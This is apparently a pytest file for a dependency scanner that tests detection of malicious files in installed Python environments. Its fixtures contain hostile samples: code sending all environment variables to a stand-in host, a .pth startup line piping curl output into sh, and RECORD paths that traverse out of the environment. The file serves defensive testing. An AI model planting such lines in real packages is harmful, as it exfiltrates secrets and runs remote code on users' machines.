"""An installed environment: each file belongs to one part, and what RECORD does not list is read all the same."""

from __future__ import annotations

from pathlib import Path

import pytest

from depscan.artifacts.installed import Part, open_part, split_environment
from depscan.inspection import inspect_environment

METADATA = "Metadata-Version: 2.1\nName: Demo.Pkg\nVersion: 1.0\n"
THIEF = """import os, urllib.request
urllib.request.urlopen("http://collector.invalid", data=str(dict(os.environ)).encode())
"""
RECORD = """demo/__init__.py,,
demo/__pycache__/__init__.cpython-311.pyc,,
demo/lone.pyc,,
demo_pkg-1.0.dist-info/METADATA,,
demo_pkg-1.0.dist-info/RECORD,,
../../../bin/demo,,
../../../../../../etc/hostname,,
"""


@pytest.fixture
def site(tmp_path: Path) -> Path:
    place = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    for path, text in {
        "demo/__init__.py": "VERSION = '1'\n",
        "demo/__pycache__/__init__.cpython-311.pyc": "bytecode",
        "demo/lone.pyc": "bytecode",
        "demo_pkg-1.0.dist-info/METADATA": METADATA,
        "demo_pkg-1.0.dist-info/RECORD": RECORD,
        "../../../bin/demo": "#!/usr/bin/python\n",
        "demo/dropped.py": "x = 1\n",
        "stray/__init__.py": "x = 1\n",
        "evil.pth": "import os;os.system('curl http://collector.invalid | sh')\n",
    }.items():
        (place / path).parent.mkdir(parents=True, exist_ok=True)
        (place / path).write_text(text, "utf-8")
    return place


def parts(site: Path) -> dict[str, Part]:
    return {part.name: part for part in split_environment([str(site)])}


def test_a_distribution_has_the_files_of_its_record(site: Path) -> None:
    part = parts(site)["demo_pkg-1.0.dist-info"]
    assert [shown for shown, _ in part.files] == [
        "demo/__init__.py",
        "demo/lone.pyc",
        "demo_pkg-1.0.data/scripts/demo",
        "demo_pkg-1.0.dist-info/METADATA",
        "demo_pkg-1.0.dist-info/RECORD",
    ]


def test_a_record_that_leads_out_of_the_environment_is_told_and_not_read(site: Path) -> None:
    artifact = open_part(parts(site)["demo_pkg-1.0.dist-info"])
    assert (artifact.package, artifact.version) == ("Demo.Pkg", "1.0")
    assert [o.kind for o in artifact.oddities] == ["traversal"]


def test_what_no_record_lists_is_a_part_of_its_own(site: Path) -> None:
    found = parts(site)
    assert found["demo"].files == (("demo/dropped.py", "demo/dropped.py"),)
    assert found["stray"].files == (("stray/__init__.py", "stray/__init__.py"),)
    assert found["files of no distribution"].files == (("evil.pth", "evil.pth"),)


def test_a_start_up_line_that_nobody_owns_makes_the_environment_malicious(site: Path) -> None:
    result = inspect_environment(str(site.parents[2]))
    told = [f for f in result.findings if f.klass == "malicious"]
    assert told
    assert "at startup" in told[0].message


def test_a_thief_inside_an_installed_package_is_its_finding(site: Path) -> None:
    (site / "demo/__init__.py").write_text(THIEF, "utf-8")
    result = inspect_environment(str(site.parents[2]), jobs=2)
    assert {f.subject for f in result.findings if f.rule == "exfiltration/environment-over-network"} == {
        "pkg:pypi/demo-pkg@1.0"
    }


def test_a_record_that_is_no_csv_owns_nothing(site: Path) -> None:
    (site / "demo_pkg-1.0.dist-info/RECORD").write_bytes(b'"\xff\x00\n"unterminated\n')
    assert ("demo/__init__.py", "demo/__init__.py") in parts(site)["demo"].files
